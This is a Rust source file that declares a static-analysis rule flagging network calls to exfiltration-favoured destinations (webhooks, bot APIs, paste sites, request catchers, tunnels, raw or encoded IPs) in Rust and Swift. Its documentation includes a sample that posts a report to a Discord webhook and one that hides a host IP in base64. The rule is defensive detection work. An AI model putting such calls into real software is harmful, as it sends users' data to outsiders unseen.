use crate::declare_rule;

declare_rule! {
    /// ## What it finds
    /// A network call to a destination that exfiltration favours and honest apps rarely
    /// use: a public raw IP address, a Discord or Slack webhook, the Telegram bot API,
    /// a paste site (pastebin, hastebin, transfer.sh), a request catcher (webhook.site,
    /// requestbin, pipedream, interact.sh, Burp Collaborator, oast.*), a tunnel (ngrok,
    /// localtunnel, trycloudflare), or a host assembled at run time from base64, hex,
    /// XOR'd bytes, reversed strings or character arrays so that it does not appear in
    /// the source. Loopback and private-network addresses are not reported.
    ///
    /// ## Why it matters
    /// Malicious packages need somewhere to send what they steal that needs no account
    /// and leaves no trail: webhooks, bot APIs, paste sites and bare IPs. Hiding the
    /// host behind an encoding has no honest purpose.
    ///
    /// ## Example
    /// ```rust
    /// const HOOK: &str = "https://discord.com/api/webhooks/1180000000000000000/abc";
    /// reqwest::blocking::Client::new().post(HOOK).json(&report).send()?;
    /// ```
    /// ```swift
    /// let host = String(data: Data(base64Encoded: "NDUuNjEuMTM5LjE3")!, encoding: .utf8)!
    /// let url = URL(string: "http://\(host)/u")!
    /// ```
    ///
    /// ## Instead
    /// Send data only to services the project operates or contracts, by a name in the
    /// source, declared in `[data-upload] allowed-hosts`.
    ///
    /// ## References
    /// - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    /// - CWE-512: Spyware
    /// - MITRE ATT&CK T1567 (Exfiltration Over Web Service), T1027 (Obfuscated Files or Information)
    pub static RULE = {
        id: "data-upload/suspicious-destination",
        summary: "A network call goes to a destination favoured for exfiltration",
        cwe: [200, 512],
        severity: High,
        confidence: Medium,
        languages: [Rust, Swift],
    }
}
